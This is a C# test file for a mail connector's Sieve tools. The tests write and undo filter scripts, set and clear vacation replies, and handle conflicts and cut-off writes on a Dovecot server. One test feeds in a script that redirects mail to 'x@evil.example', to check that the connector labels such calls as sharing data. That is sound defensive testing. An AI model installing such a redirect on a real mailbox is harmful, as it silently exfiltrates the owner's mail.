using MeshClaw.Connectors.Mail;
using MeshClaw.Connectors.Mail.Tools;
using MeshClaw.Core.Connectors;
using MeshClaw.Core.Mail;
using MeshClaw.Core.Tools;
using MeshClaw.Policy.Calls;
using MeshClaw.Testing;

namespace MeshClaw.Connectors.Tests.Mail.Sieve;

/// <summary>Filter scripts and the answer while the owner is away, on a real Dovecot with Pigeonhole.</summary>
public sealed class SieveToolsTests(DovecotWithSieve server) : IClassFixture<DovecotWithSieve>
{
    private const string Own =
        "require \"fileinto\";\r\n# lists\r\nif header :contains \"list-id\" \"dev\" { fileinto \"Dev\"; stop; }\r\n";

    [Fact]
    public async Task A_script_is_written_read_and_taken_back()
    {
        await using var connector = Connect();
        var driver = new Driver(connector);

        var rows = await driver.DoAsync(Put("rules", Own, activate: true));
        Assert.Equal([new MailFilterScript("rules", true, Own)], (await ReadAsync(driver)).Scripts);

        await driver.DoAsync(connector.UndoRequest(rows[0])!);
        Assert.Empty((await ReadAsync(driver)).Scripts);
    }

    [Fact]
    public async Task A_vacation_goes_into_the_owner_s_script_and_out_again()
    {
        await using var connector = Connect();
        var driver = new Driver(connector);
        await driver.DoAsync(Put("rules", Own, activate: true));

        await driver.DoAsync(
            Driver.Request(
                MailSieveTools.Vacation,
                new
                {
                    text = "Back on \"Monday\".\nAna \\o/",
                    subject = "Away: ü",
                    from = "2026-12-20T00:00:00+01:00",
                    until = "2027-01-03T23:59:59+01:00",
                }
            )
        );
        var script = Assert.Single((await ReadAsync(driver)).Scripts);
        Assert.True(script.Active);
        Assert.Contains("\"iso8601\" \"2026-12-19T23:00:00+00:00\"", script.Text, StringComparison.Ordinal);
        Assert.Contains("Back on \\\"Monday\\\".\r\nAna \\\\o/", script.Text, StringComparison.Ordinal);

        await driver.DoAsync(Driver.Request(MailSieveTools.Vacation, new { off = true }));
        Assert.Equal([new MailFilterScript("rules", true, Own)], (await ReadAsync(driver)).Scripts);
    }

    [Fact]
    public async Task Where_there_is_no_script_the_vacation_has_its_own_and_its_undo_leaves_none()
    {
        await using var connector = Connect();
        var driver = new Driver(connector);

        var rows = await driver.DoAsync(Driver.Request(MailSieveTools.Vacation, new { text = "Away" }));
        Assert.True(Assert.Single((await ReadAsync(driver)).Scripts).Active);

        await driver.DoAsync(connector.UndoRequest(rows[0])!);
        Assert.Empty((await ReadAsync(driver)).Scripts);
    }

    [Fact]
    public async Task What_the_server_does_not_take_is_told_before_anything_is_proposed()
    {
        await using var connector = Connect();

        var refused = await Assert.ThrowsAsync<ToolException>(() =>
            new Driver(connector).DescribeAsync(Put("rules", "fileinto \"no require\";", activate: true))
        );

        Assert.Contains("fileinto", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_script_that_another_program_changed_meanwhile_is_left_alone()
    {
        await using var connector = Connect();
        var driver = new Driver(connector);
        await driver.DoAsync(Put("rules", Own, activate: true));
        var calls = await driver.DescribeAsync(Driver.Request(MailSieveTools.Vacation, new { text = "Away" }));

        await driver.DoAsync(Put("rules", Own + "keep;\r\n", activate: true));

        Assert.IsType<Preparation.Gone>(Assert.Single(await connector.PrepareAsync(calls, default)));
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_cut_off_write_is_told_from_the_server(bool happened)
    {
        await using var connector = Connect();
        var driver = new Driver(connector);
        await driver.DoAsync(Put("rules", Own, activate: true));
        var (_, rows) = await driver.PrepareAsync(Put("rules", "keep;\r\n", activate: true));
        if (happened)
        {
            await driver.DoAsync(Put("rules", "keep;\r\n", activate: true));
        }

        var found = Assert.Single(await connector.ReconcileAsync([rows[0]!], true, default));

        Assert.Equal(happened ? typeof(Reconciliation.Happened) : typeof(Reconciliation.NotHappened), found.GetType());
    }

    [Fact]
    public async Task A_script_counts_as_giving_access_and_every_value_has_a_role()
    {
        await using var connector = Connect();
        var driver = new Driver(connector);

        var call = (await driver.DescribeAsync(Put("rules", "redirect \"x@evil.example\";", activate: true)))[0];
        LabelledCalls.AssertComplete(call);
        Assert.True(call.Reaches);
        Assert.True(call.Verbs.HasFlag(Verbs.Share | Verbs.Send));
        LabelledCalls.AssertComplete(
            (await driver.DescribeAsync(Driver.Request(MailSieveTools.Vacation, new { text = "Away", days = 3 })))[0]
        );
    }

    [Fact]
    public async Task Without_a_server_for_scripts_it_says_what_to_write()
    {
        await using var connector = MailConnectorFactory.Create(
            MailStores.Account(server, "nobody"),
            new Core.Secrets.Secret(DovecotServer.Password)
        );

        var refused = await Assert.ThrowsAsync<ToolException>(() =>
            new Driver(connector).DescribeAsync(Driver.Request(MailSieveTools.Read, new { }))
        );

        Assert.Contains("'sieve' for filter scripts", refused.Message, StringComparison.Ordinal);
    }

    private MailConnector Connect() =>
        MailConnectorFactory.Create(
            MailStores.Account(server, server.NewMailbox().User) with
            {
                Sieve = new Uri($"sieve://127.0.0.1:{server.SievePort}"),
            },
            new Core.Secrets.Secret(DovecotServer.Password)
        );

    private static ToolRequest Put(string script, string text, bool activate) =>
        Driver.Request(
            MailSieveTools.Put,
            new
            {
                script,
                text,
                activate,
            }
        );

    private static async Task<MailFilterScripts> ReadAsync(Driver driver) =>
        await driver.ReadAsync<MailFilterScripts>(MailSieveTools.Read, new { });
}
